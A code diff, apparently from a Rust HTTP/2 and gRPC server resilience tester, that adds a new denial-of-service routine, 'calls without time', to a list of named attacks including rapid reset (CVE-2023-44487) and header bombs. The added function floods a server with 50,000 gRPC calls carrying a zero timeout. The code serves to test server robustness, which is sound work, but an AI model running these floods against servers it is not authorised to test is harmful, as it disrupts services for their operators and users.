@@ -28,7 +28,7 @@ impl Attack {
     }
 }
 
-pub(crate) const ATTACKS: [Attack; 15] = [
+pub(crate) const ATTACKS: [Attack; 16] = [
     // CVE-2023-44487
     Attack { name: "rapid reset", run: rapid_reset },
     // CVE-2025-8671: what the client does makes the server reset.
@@ -44,6 +44,7 @@ pub(crate) const ATTACKS: [Attack; 15] = [
     Attack { name: "huge header list", run: huge_header_list },
     Attack { name: "header bomb", run: header_bomb },
     Attack { name: "huge message", run: huge_message },
+    Attack { name: "calls without time", run: calls_without_time },
     Attack { name: "answers nobody takes", run: closed_window },
     Attack { name: "1,000 half-open connections", run: half_open },
     Attack { name: "halves of messages", run: half_messages },
@@ -56,9 +57,9 @@ pub(crate) const RST_STREAM: u8 = 3;
 pub(crate) const SETTINGS: u8 = 4;
 pub(crate) const PING: u8 = 6;
 pub(crate) const GOAWAY: u8 = 7;
-const WINDOW_UPDATE: u8 = 8;
+pub(crate) const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
-const END_STREAM: u8 = 1;
+pub(crate) const END_STREAM: u8 = 1;
 pub(crate) const END_HEADERS: u8 = 4;
 pub(crate) const ACK: u8 = 1;
 /// How long an attack may go on, and how long its connections are held when everything is sent.
@@ -196,6 +197,20 @@ fn huge_message(address: SocketAddr) -> std::io::Result<Outcome> {
         for _ in 0..20 {
             client.data(0, stream, &[0x0a; 16_000])?;
         }
+    }
+    client.endured()
+}
+
+/// Each is answered before its message has come, and remembered for that.
+fn calls_without_time(address: SocketAddr) -> std::io::Result<Outcome> {
+    let mut client = Client::connect(address)?;
+    client.send(&frame(WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes()))?;
+    let call = [call(), literal("grpc-timeout", "0n")].concat();
+    let all: Vec<_> = streams(50_000).collect();
+    for some in all.chunks(500) {
+        let begun = |stream: &u32| frame(HEADERS, END_HEADERS, *stream, &call);
+        client.send(&some.iter().flat_map(begun).collect::<Vec<_>>())?;
+        client.linger(5 * TICK)?;
     }
     client.endured()
 }
